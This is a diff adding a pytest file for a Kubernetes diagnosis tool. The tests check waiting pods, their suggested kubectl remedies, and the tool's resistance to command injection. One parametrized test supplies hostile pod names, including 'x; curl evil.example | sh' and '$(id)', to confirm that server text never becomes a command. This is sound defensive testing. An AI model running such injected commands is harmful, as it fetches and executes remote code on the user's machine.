@@ -1,0 +1,64 @@
+"""Which pods wait, since when, and whether they have the secret; and no text of a server becomes a command."""
+
+import copy
+from typing import Any
+
+import pytest
+
+from local.breaks.cluster import waiting_pod
+from local.cloud import LocalCluster
+from local.kubernetes import ApiServer
+from tests.diagnosis.conftest import Doctor, list_hops
+
+pytestmark = pytest.mark.servers
+_SINCE = "2026-11-29T03:00:00Z"
+
+
+def _put(doctor: Doctor, cluster: LocalCluster, name: object, **spec: Any) -> dict[str, Any]:
+    """Have a pod wait for the hub's image. Return it."""
+    hub = doctor.world.cloud.hubs["main"]
+    pod = waiting_pod(f"{hub.document['registries'][0]}/{hub.image}:latest", _SINCE)
+    pod["metadata"] |= {"name": name, "namespace": cluster.target.namespace}
+    pod["spec"] |= spec
+    assert isinstance(cluster.server, ApiServer)
+    cluster.server.put_pod(copy.deepcopy(pod))
+    return pod
+
+
+async def test_each_pod_has_the_remedy_of_its_cause(doctor: Doctor) -> None:
+    cluster = await doctor.onboard()
+    _put(doctor, cluster, "early", serviceAccountName="deepintshield-sa")
+    _put(doctor, cluster, "late", imagePullSecrets=[{"name": "ar-pull-secret"}])
+    _put(doctor, cluster, "stranger", serviceAccountName="other")
+    hops = {str(hop.subject): hop for hop in list_hops(await doctor.examine(cluster), "pods")}
+    assert hops["deepintshield"].detail == "3 pods, 3 of them wait"
+    remedies = {name: str(hops[f"deepintshield/{name}"].remedy) for name in ("early", "late", "stranger")}
+    assert remedies["early"].startswith("Let its owner create it again: kubectl delete pod early -n deepintshield")
+    assert remedies["late"].startswith("kubectl describe pod late -n deepintshield")
+    assert remedies["stranger"].startswith("Add the account other to serviceAccounts")
+    evidence = hops["deepintshield/early"].evidence
+    assert (evidence["since"], evidence["imagePullSecrets"]) == (_SINCE, "none")
+    assert "(ImagePullBackOff)" in evidence["images"]
+
+
+async def test_pods_that_run_or_wait_for_images_of_others_are_not_named(doctor: Doctor) -> None:
+    cluster = await doctor.onboard()
+    other = _put(doctor, cluster, "other")
+    other["status"]["containerStatuses"][0]["image"] = "docker.io/library/nginx:1"
+    running = _put(doctor, cluster, "running")
+    running["status"]["containerStatuses"][0]["state"] = {"running": {"startedAt": _SINCE}}
+    assert isinstance(cluster.server, ApiServer)
+    for pod in (other, running):
+        cluster.server.put_pod(pod)
+    (hop,) = list_hops(await doctor.examine(cluster), "pods")
+    assert (hop.state, hop.detail) == ("ok", "2 pods, 0 of them wait")
+
+
+@pytest.mark.parametrize("name", ["x; curl evil.example | sh", "$(id)", "a\nb", "-n kube-system", "x" * 300])
+async def test_a_name_that_is_none_becomes_no_command(doctor: Doctor, name: str) -> None:
+    """A cluster's owner may not be the one who types the remedy."""
+    cluster = await doctor.onboard()
+    _put(doctor, cluster, name)
+    _put(doctor, cluster, "good", serviceAccountName=name)
+    (hop,) = list_hops(await doctor.examine(cluster), "pods")
+    assert hop.state == "ok"
